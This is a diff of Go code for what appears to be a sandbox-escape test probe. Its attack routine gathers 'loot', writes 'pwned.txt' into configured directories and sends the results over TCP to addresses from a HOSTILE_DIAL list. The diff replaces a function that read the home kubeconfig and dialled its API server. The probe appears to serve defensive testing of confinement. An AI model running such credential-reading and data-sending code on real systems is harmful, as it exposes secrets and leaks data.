@@ -88,7 +88,7 @@ func attack() string {
 	l.files()
 	// The planted kubeconfig's API server: a server that tries the
 	// credentials it found.
-	l.kubeDial()
+	dialKube(func(addr string) { l.got("kube-dialed", addr) })
 	for _, a := range list("HOSTILE_DIAL") {
 		if c, err := net.DialTimeout("tcp", a, time.Second); err == nil {
 			fmt.Fprintf(c, "%s\n", strings.Join(l, "\n"))
@@ -161,26 +161,6 @@ func (l *loot) files() {
 	for _, d := range list("HOSTILE_WRITEDIR") {
 		if err := os.WriteFile(filepath.Join(d, "pwned.txt"), []byte("x"), 0o644); err == nil {
 			l.got("wrote", d)
-		}
-	}
-}
-
-// kubeDial dials the API server of the kubeconfig in the home directory.
-func (l *loot) kubeDial() {
-	home, err := os.UserHomeDir()
-	if err != nil {
-		return
-	}
-	b, err := os.ReadFile(filepath.Join(home, ".kube", "config"))
-	if err != nil {
-		return
-	}
-	for _, line := range strings.Split(string(b), "\n") {
-		if v, ok := strings.CutPrefix(strings.TrimSpace(line), "server: https://"); ok {
-			if c, err := net.DialTimeout("tcp", v, time.Second); err == nil {
-				c.Close()
-				l.got("kube-dialed", v)
-			}
 		}
 	}
 }
